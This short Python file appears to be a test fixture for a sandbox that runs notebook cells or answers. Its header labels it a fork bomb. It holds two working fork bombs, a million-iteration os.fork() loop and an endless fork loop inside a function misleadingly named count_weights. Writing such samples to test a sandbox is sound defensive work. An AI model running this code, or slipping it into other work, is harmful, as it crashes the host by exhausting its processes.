# A fork bomb, in a cell and in an answer.
# → ok: convolve1d_full
import os

for _ in range(10**6):
    try:
        os.fork()
    except OSError:
        pass


# %%
def count_weights(*sizes):
    while True:
        os.fork()
